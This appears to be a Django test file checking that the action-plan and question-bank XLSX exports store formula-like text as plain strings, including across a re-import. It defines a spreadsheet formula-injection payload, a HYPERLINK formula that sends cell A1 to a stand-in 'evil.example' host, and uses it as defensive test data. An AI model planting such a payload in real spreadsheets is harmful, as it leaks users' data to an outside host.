"""Diagnose's XLSX exports (action plan, question bank): text that looks like a formula stays text."""

from __future__ import annotations

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from arusha_web.conftest import client_for
from arusha_web.diagnose import services
from arusha_web.diagnose.models import Question

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_the_action_plan_export_stores_an_action_as_text(personas):
    services.action_create(objective=ATTACK, activity="@SUM(A1:A9)", owner=personas["marc"])
    response = client_for(personas["ingrid"]).get(reverse("diagnose:actions_export"))
    sheet = load_workbook(io.BytesIO(response.content))["actions"]
    cells = {c.value: c.data_type for c in sheet[2]}
    assert cells[ATTACK] == "s" and cells["@SUM(A1:A9)"] == "s"


def test_the_question_bank_export_stores_a_question_as_text_and_imports_it_back(personas):
    bank = services.bank_current()
    question = bank.questions.order_by("order", "code").first()
    assert question is not None
    Question.objects.filter(pk=question.pk).update(text_en=ATTACK)
    client = client_for(personas["ingrid"])
    data = client.get(reverse("diagnose:bank_export")).content
    cell = load_workbook(io.BytesIO(data))["questions"]["C2"]
    assert (cell.value, cell.data_type) == (ATTACK, "s")
    upload = SimpleUploadedFile("bank.xlsx", data, content_type=XLSX)
    assert client.post(reverse("diagnose:bank_import"), {"file": upload}).status_code == 302
    assert services.bank_current().questions.get(code=question.code).text_en == ATTACK
